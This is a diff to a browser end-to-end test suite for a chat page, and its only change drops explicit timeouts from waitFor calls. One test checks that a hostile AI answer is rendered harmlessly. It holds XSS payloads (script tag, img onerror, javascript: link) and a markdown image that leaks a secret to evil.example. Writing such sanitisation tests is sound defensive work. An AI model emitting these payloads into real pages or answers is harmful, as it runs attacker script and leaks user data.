@@ -51,7 +51,7 @@ test("someone opens the page, asks, sees the answer grow, reloads in the middle,
   await say(page, "show me code");
   await page.getByTestId("draft").waitFor();
   await page.reload();
-  await page.getByText("and that is all").first().waitFor({ timeout: 15_000 });
+  await page.getByText("and that is all").first().waitFor();
   await answers(page).first().waitFor();
   expect(await answers(page).first().locator("strong").innerText()).toBe("code");
   expect(await answers(page).first().locator("pre").innerText()).toContain("const x = 1;");
@@ -66,7 +66,7 @@ test("a hostile answer runs nothing and fetches nothing", async () => {
   world.ai.answer = () =>
     `<script>document.title="owned"</script><img src=x onerror="document.title='owned'">[a](javascript:document.title='owned')\n\n![pixel](https://evil.example/p.png?secret)\n\nstill here`;
   await say(page, "attack me");
-  await page.getByText("still here").first().waitFor({ timeout: 15_000 });
+  await page.getByText("still here").first().waitFor();
   await answers(page).first().waitFor();
   expect(await page.title()).not.toBe("owned");
   expect(await answers(page).locator("script, img, iframe").count()).toBe(0);
@@ -80,7 +80,7 @@ test("with an access token the page asks for it, once", async () => {
   await page.keyboard.press("Enter");
   await page.getByRole("textbox", { name: "Message" }).waitFor();
   await say(page, "hello");
-  await page.getByText("You said: hello").first().waitFor({ timeout: 15_000 });
+  await page.getByText("You said: hello").first().waitFor();
   await page.reload();
   await until(() => answers(page).count(), "still logged in");
 });
@@ -88,5 +88,5 @@ test("with an access token the page asks for it, once", async () => {
 test("the API's description can be read in the browser", async () => {
   const { url } = await world.start();
   const page = await open(`${url}/docs`);
-  await page.getByText("/api/chat/messages").first().waitFor({ timeout: 10_000 });
+  await page.getByText("/api/chat/messages").first().waitFor();
 });
